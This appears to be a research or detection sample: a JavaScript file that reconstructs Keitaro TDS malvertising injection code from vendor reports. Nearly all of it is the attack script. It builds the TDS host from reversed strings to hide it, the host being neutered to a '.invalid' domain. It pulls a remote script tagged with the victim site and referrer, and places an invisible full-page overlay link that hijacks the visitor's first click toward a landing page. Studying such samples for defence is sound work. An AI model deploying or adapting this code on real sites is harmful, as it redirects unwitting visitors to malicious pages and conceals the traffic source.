// keitaro-tds (variant b), written from Proofpoint's and ESET's reports on Keitaro TDS use in
// malvertising (2019-2024): the older JavaScript-injection form, in which the injected code
// writes a script tag pointing at the TDS's "js" campaign path (host assembled from a
// reversed string, .invalid here); the TDS's answer defines a function that the page then
// calls, and on the visitor's first click a full-page overlay link sends them to the landing.
(function (d, w) {
  var h = ["dilavni.", "sdt-ssalc", "//:sptth"].map(function (p) { return p.split("").reverse().join(""); }).reverse().join("");
  var cb = "kt_" + Math.floor(Math.random() * 1e8);
  w[cb] = function (target) {
    if (!target) return;
    var a = d.createElement("a");
    a.href = target;
    a.style.cssText = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;opacity:0";
    a.addEventListener("click", function () {
      setTimeout(function () { a.parentNode && a.parentNode.removeChild(a); }, 50);
    });
    d.body.appendChild(a);
  };
  var s = d.createElement("script");
  s.src = h + "/ZxK4wq?sub_id_1=" + encodeURIComponent(location.hostname) +
    "&ref=" + encodeURIComponent(d.referrer) + "&cb=" + cb + "&_=" + Date.now();
  (d.head || d.documentElement).appendChild(s);
})(document, window);
